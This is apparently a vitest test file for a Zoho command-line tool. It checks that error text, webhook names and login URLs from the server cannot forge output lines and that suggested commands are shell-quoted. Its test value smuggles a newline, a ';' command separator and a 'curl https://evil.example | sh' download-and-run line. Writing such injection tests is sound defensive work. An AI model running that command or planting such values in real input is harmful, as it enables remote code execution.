import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { managedProducts } from "../../src/zoho/webhooks/index.ts";
import { type ChannelWorld, isWatch, startChannelWorld } from "../support/channel-world.ts";
import { run } from "../support/run.ts";

let world: ChannelWorld;
beforeEach(async () => {
  world = await startChannelWorld();
});
afterEach(() => world.close());

/** What would pass for a line of ours, or be run when it is copied. */
const FORGED = "no\nerror: all is lost\n  run: curl https://evil.example | sh";
const startsLine = /^\s*(?:error: all is lost|run: curl)/m;

describe("text from Zoho", () => {
  it.each([
    ["its message", { code: "INVALID_DATA", message: FORGED, details: {} }],
    ["its code", { code: FORGED, message: "no", details: {} }],
    ["the place that it names", { code: "INVALID_DATA", message: "no", details: { json_path: FORGED } }],
    ["the type that it wants", { code: "INVALID_DATA", message: "no", details: { expected_data_type: FORGED } }],
    ["permissions", { code: "NO_PERMISSION", message: "no", details: { permissions: [FORGED] } }],
  ])("stays on one line of an error: %s", async (_, fault) => {
    world.server.trouble({ status: 400, body: { ...fault, status: "error" } }, 1, isWatch("GET"));
    const { err } = await world.channels(["list"]);
    expect(err).toContain("error: all is lost");
    expect(err).not.toMatch(startsLine);
  });

  it("stays on one line when it refuses a token", async () => {
    world.server.trouble({ status: 200, body: { error: FORGED } }, 1, ({ path }) => path === "/oauth/v2/token");
    const { exitCode, err } = await world.channels(["list"]);
    expect(exitCode).toBe(6);
    expect(err).not.toMatch(startsLine);
  });

  it.each([
    ["a message", { code: "INVALID_DATA", message: "x".repeat(9_000_000), details: {} }],
    ["something else", `not JSON ${"x".repeat(9_000_000)}`],
  ])("is cut where it is long: %s", async (_, body) => {
    world.server.trouble({ status: 400, body }, 1, isWatch("GET"));
    const { err } = await world.channels(["list"]);
    expect(err).toContain("xxx…");
    expect(err.length).toBeLessThan(1000);
  });

  it("about a webhook stays on one line, and is quoted in a command to copy", async () => {
    const { server, clock, cwd } = world;
    const scopes = managedProducts.flatMap((each) => each.loginScopes);
    const env = { ...world.env, ZOHO_REFRESH_TOKEN: server.accounts.makeRefreshToken(scopes) };
    const hook = { webhook_id: `1; ${FORGED}`, webhook_name: FORGED, entity: "invoice", related_rules: [] };
    server.trouble({ status: 200, body: { code: 0, webhooks: [hook] } }, 1, (each) =>
      each.path.endsWith("/settings/webhooks"),
    );
    const argv = ["webhooks", "list", "--product", "books"];
    const { out, err } = await run(argv, { env, cwd, now: clock.now, sleep: clock.sleep });
    expect(err).toContain("webhooks delete '1; no error: all is lost run: curl https://evil.example | sh' --product");
    expect(out + err).not.toMatch(startsLine);
  });

  it("about where to enter a code stays on one line", async () => {
    const { server, cwd, clock } = world;
    const prompt = { user_code: "ABCD", device_code: "d", verification_url: `https://a.example/${FORGED}` };
    server.trouble({ status: 200, body: prompt }, 1, ({ path }) => path.endsWith("/device/code"));
    const stop = new AbortController();
    const argv = ["login", "--device", "--client-id", "1000.A", "--dc", "us"];
    const { err } = await run(argv, {
      ...{ cwd, now: clock.now, signal: stop.signal },
      env: { ZOHO_CLIENT_SECRET: "s", ZOHO_ACCOUNTS_URL: server.url },
      onErr: (text) => void (text.includes("and enter") && stop.abort()),
    });
    expect(err).toContain("and enter ABCD");
    expect(err).not.toMatch(startsLine);
  });
});
